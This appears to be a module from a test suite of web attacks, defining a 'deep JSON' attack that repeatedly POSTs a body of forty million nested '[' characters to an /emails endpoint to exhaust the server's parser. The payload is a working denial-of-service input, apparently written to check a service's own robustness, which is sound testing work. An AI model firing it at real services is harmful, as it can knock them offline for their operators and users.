import type { Attack } from './attack.ts'
import { fill, post, repeat } from './requests.ts'

export const attack: Attack = {
  name: 'deep JSON',
  run: ({ url, token }, signal) =>
    repeat(signal, 4, () => post(`${url}/emails`, { token, signal }, ['{"x":', ...fill('[', 40_000_000)])),
}
